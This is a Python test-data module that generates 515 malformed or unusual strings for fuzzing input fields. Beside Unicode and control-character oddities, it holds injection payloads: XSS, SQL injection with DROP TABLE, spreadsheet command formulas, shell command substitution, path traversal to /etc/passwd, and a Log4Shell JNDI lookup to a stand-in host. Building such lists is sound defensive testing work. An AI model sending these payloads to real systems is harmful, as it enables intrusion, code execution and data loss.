"""515 texts that have broken programs, made by rule: each is there for a reason that stands beside it."""

import itertools

_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2063\ufe0f\u034f"
_SPACES = "\u00a0\u1680\u2000\u2001\u2002\u2003\u2009\u200a\u202f\u205f\u3000\u2028\u2029\u0085"
_CONTROLS = [chr(code) for code in range(1, 32) if chr(code) not in "\r\n"] + [chr(0x7F), chr(0x80), chr(0x9F)]
_FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","y")',
    "＝1",
    "＋1",
]
_MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>bold", "</textarea><script>",
    "</title>", "&lt;b&gt;", "&amp;amp;", "&#0;", "<!--", "-->", "]]>", "<![CDATA[x]]>", "javascript:alert(1)",
    '"><script>', "'><script>", "`${7*7}`", "{{ 7*7 }}", "{% debug %}", "{name}", "{0.__class__}", "%(name)s", "%s%s%n",
    "${jndi:ldap://x.example/a}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd",
    "..\\..\\windows", "file:/etc/passwd", "C:\\nul", "CON", "NUL", "aux.txt",
]  # fmt: skip
_SQL = [
    "' OR 1=1 --",
    '"; DROP TABLE x; --',
    "1;SELECT pg_sleep(1)",
    "%",
    "_",
    "\\",
    "\\'",
    "''",
    '"',
    "'",
    "x' AND '1'='1",
    "$$",
    "E'\\x41'",
]
_WORDS_THAT_MEAN_SOMETHING = [
    "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "True", "False", "0", "-0",
    "1e309", "0x10", "0b1", "1_000", "1,000", "01", "1/0", "9" * 40, "1.0000000000000001", "hasOwnProperty", "__proto__",
    "constructor", "toString", "__class__", "self", "this", "[]", "{}", '{"a":1}', "[object Object]", "on", "off", "yes",
    "2026-02-30", "24:60", "1970-01-01", "2038-01-19",
]  # fmt: skip
_SCRIPTS = [
    "Ñandú", "Zoë", "Łódź", "İstanbul", "ıI", "ß", "ẞ", "ﬁ", "Ǆ", "Ελλάς", "ΐ", "Привет", "שלום", "مرحبا", "לֶחֶם", "नमस्ते",
    "สวัสดี", "ကမ္ဘာ", "你好", "こんにちは", "안녕", "𠜎𠜱", "ᚠᛇᚻ", "𝒜𝓃𝒶", "🅐🅝🅐", "Ana\u0301", "e\u0301\u0327", "ﷺ", "﷽", "𒐫",
]  # fmt: skip
_EMOJI = ["👩", "👩🏽", "👩‍🌾", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇲🇽", "🇺🇸🇪🇸", "1️⃣", "❤️", "🫥", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "\U0001f9d1\u200d\U0001f9bd"]
_STACKED = ["Z" + "\u0335\u0310\u0301" * count for count in (1, 5, 20)] + ["a" + "\u0300" * 60]
_ODD_CODES = ["\ufffd", "\ufffe", "\uffff", "\ue000", "\U0010ffff", "\U000e0001", "\U0001d173", "\u0378"]
_WITH_SPACES = ["  in front", "behind  ", "\ttab", "two  spaces", " ", "   "]
_CRLF = [
    "x%0d%0aBcc: all@example.org",
    "x\\r\\nBcc:",
    "Subject: x",
    "=?utf-8?q?x?=",
    "a@b.c, d@e.f",
    "Ana <ana@example.org>",
]


def naughty_strings() -> list[str]:
    """The same 515 each time, no two alike, none with NUL, CR or LF (which no single-line field takes)."""
    single = [
        *_CONTROLS, *_BIDI, *_INVISIBLE, *_SPACES, *_FORMULAS, *_MARKUP, *_SQL, *_WORDS_THAT_MEAN_SOMETHING, *_SCRIPTS,
        *_EMOJI, *_STACKED, *_ODD_CODES, *_WITH_SPACES, *_CRLF,
    ]  # fmt: skip
    # What is odd alone is odder inside words, and two of them together odder still.
    inside = [f"An{odd}a" for odd in [*_CONTROLS, *_BIDI, *_INVISIBLE, *_SPACES, *_ODD_CODES]]
    pairs = [f"{one} {other}" for one, other in itertools.product([*_SCRIPTS, *_EMOJI], [*_FORMULAS, *_MARKUP])]
    texts = list(dict.fromkeys([*single, *inside, *pairs]))
    return texts[:515]
